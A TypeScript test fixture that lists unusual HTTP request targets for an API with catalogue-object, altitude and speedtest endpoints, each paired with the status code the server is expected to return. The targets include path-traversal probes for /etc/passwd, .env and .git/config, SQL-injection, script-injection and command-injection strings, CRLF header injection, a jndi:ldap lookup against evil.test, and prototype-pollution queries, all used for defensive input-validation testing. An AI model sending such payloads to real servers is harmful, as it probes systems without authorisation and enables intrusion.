import { get, KEY, type OddRequest, utf8 } from './odd-request.ts'

const withKey = `x-api-key: ${KEY}`

function rows(clause: string, outcome: string, targets: readonly string[]): OddRequest[] {
  return targets.map((target) => [clause, JSON.stringify(target).slice(0, 60), get(target), outcome])
}

/** Catalogue numbers in other than the canonical spelling. */
const ids =
  '0 025544 +1 -1 1e3 0x10 0b1 1_000 %2012 12%20 12abc 1.0 12. .5 1000000000 999999999999 %EF%BC%99 %D9%A1 %00 25544%00 NaN Infinity null undefined __proto__ constructor toString [] {} 1,2 1;2 25544%2F 25544%0a 1%e2%80%8b'

const quantities =
  '-1 +5 1e3 0x10 %205 5%20 5.0 5. 250000001 99999999999999999999 NaN Infinity null true [] %00 5%00 ٥ %D9%A5 5&bytes=6'

export const targets: OddRequest[] = [
  // Of a whole URL the path counts; its host is ignored like the Host header.
  ...rows('RFC 9112 3.2.2', '204', [
    'http://evil.test/v1/speedtest/ping',
    'https://evil.test/v1/speedtest/ping',
    'http://evil.test:99999/v1/speedtest/ping',
  ]),
  ...rows('RFC 9112 3.2.2', '200', [
    'http://evil.test',
    'http://evil.test?x',
    'HTTP://EVIL.TEST/ref',
    'http://[::1]/ref',
  ]),
  ...rows('RFC 9112 3.2.2', '404', ['http://evil.test//ref', 'http://evil.test/v1/http://evil.test/ref']),
  ...rows('RFC 9112 3.2.2', '400', [
    'http://user:pass@evil.test/v1/speedtest/ping',
    'http://evil.test\\@localhost/ref',
    'http://evil.test/ref#x',
    'ftp://evil.test/ref',
    'file:///etc/passwd',
    'javascript:alert(1)',
    'http:/ref',
    'http:///ref',
    'http://[::1/ref',
  ]),
  ...rows('RFC 9112 3.2.3', '400', [
    '*',
    '**',
    '*/ref',
    'evil.test:443',
    'localhost',
    'ref',
    './ref',
    '../ref',
    '?x',
    '#x',
    '@evil.test',
    ':80',
    ';',
    '\\ref',
  ]),
  ...rows('the front page', '200', ['/']),
  ...rows('DECISIONS 6: nothing is there', '404', [
    '//evil.test/v1/speedtest/ping',
    '///v1/speedtest/ping',
    '//',
    '/\\evil.test/ref',
    '/ref/',
    '/ref//tiers',
    '//ref',
    '/REF',
    '/Ref/Tiers',
    '/ref;x',
    '/ref/tiers;jsessionid=1',
    '/ref%2Ftiers',
    '/ref%2ftiers',
    '/%72ef',
    '/ref%00',
    '/ref%20',
    '/ref%09',
    '/ref%0d%0aset-cookie:x=1',
    '/ref.json',
    '/ref,',
    '/ref&x=1',
    '/%',
    '/%zz',
    '/%u0041',
    '/%c0%af',
    '/%ff%fe',
    '/..%2fref',
    '/x/..%2f..%2fetc/passwd',
    '/....//....//etc/passwd',
    '/%2e%2e%2f%2e%2e%2fetc/passwd',
    '/.git/config',
    '/.env',
    '/wp-login.php',
    '/cgi-bin/.%2e/.%2e/bin/sh',
    '/__proto__',
    '/constructor',
    '/toString',
    '/v1',
    '/v1/',
    '/v1/object',
    '/v1/objects/',
    '/v1/objects/1/2',
    "/'or'1'='1",
    '/<script>alert(1)</script>',
    `/\${7*7}`,
    '/{{7*7}}',
    '/$(id)',
    '/`id`',
    '/|id',
    '/%24%7bjndi:ldap://evil.test/x%7d',
    `/${'a'.repeat(8_000)}`,
    `/${'a/'.repeat(4_000)}`,
    `/${'../'.repeat(2_000)}x`,
    `/${'%2e%2e/'.repeat(1_000)}x`,
  ]),
  // The URL standard normalises dot segments and backslashes alike on every runtime.
  ...rows('WHATWG URL 4.4', '200', [
    '/./ref',
    '/x/../ref',
    '/../../ref',
    '/%2e/ref',
    '/x/%2e%2e/ref',
    '/x/%2E%2E/ref',
    '/x\\..\\ref',
    '/ref\\tiers',
    '/ref?',
    '/ref??',
    '/ref?/../x',
    '/ref?http://evil.test/',
    '/ref?%zz&%00&=&&&;',
    '/ref?__proto__[x]=1&constructor.prototype.x=1',
    `/ref?${'a=1&'.repeat(2_000)}`,
  ]),
  ...rows('RFC 9112 3.2', '400', ['/ref#x', '/ref#/../v1', '/ref?x#y', '/#/ref', '/ref#']),
  ...rows('RFC 9112 3.2.1', '200 | 400 | 404', ['/ref?a"b', '/ref?<x>', '/ref?`', '/ref?|^{}']),
  ...rows('RFC 9112 3.2.1', '400', ['/ref\x01', '/ref\x7f', '/ref\0', '/ref\x1b[31m', '/ref?\0']),
  ...rows('RFC 3986 2', '400 | 404', [
    utf8('/réf'),
    utf8('/ｒｅｆ'),
    '/\xff',
    '/r\xe9f',
    utf8('/🛰'),
    utf8('/\u202eref'),
  ]),
  ...rows('P12', '431', [`/${'a'.repeat(20_000)}`, `/ref?${'x'.repeat(20_000)}`, `/${'%41'.repeat(9_000)}`]),
  ...ids
    .split(' ')
    .map((id): OddRequest => ['DECISIONS 6: ids', id, get(`/v1/objects/${id}`, withKey), '400']),
  ...['1/', '1%2f..%2f2/', ''].map(
    (id): OddRequest => ['DECISIONS 6: ids', JSON.stringify(id), get(`/v1/objects/${id}`, withKey), '404'],
  ),
  ...'149 2001 -150 0 1e3 150.5 0x190 四百 %E5%9B%9B 00400 __proto__'
    .split(' ')
    .map(
      (alt): OddRequest => [
        'DECISIONS 2: altitudes',
        alt,
        get(utf8(`/shell/density/${alt}`), withKey),
        '400',
      ],
    ),
  ...quantities
    .split(' ')
    .map(
      (bytes): OddRequest => [
        'RFC 3986 3.4',
        `bytes=${bytes}`,
        get(utf8(`/v1/speedtest/down?bytes=${bytes}`)),
        '400',
      ],
    ),
  ...['bytes=0&x=1', 'bytes=%30', 'BYTES=-1&bytes=0', 'bytes[]=-1&bytes=0'].map(
    (query): OddRequest => ['RFC 3986 3.4', query, get(`/v1/speedtest/down?${query}`), '200'],
  ),
]
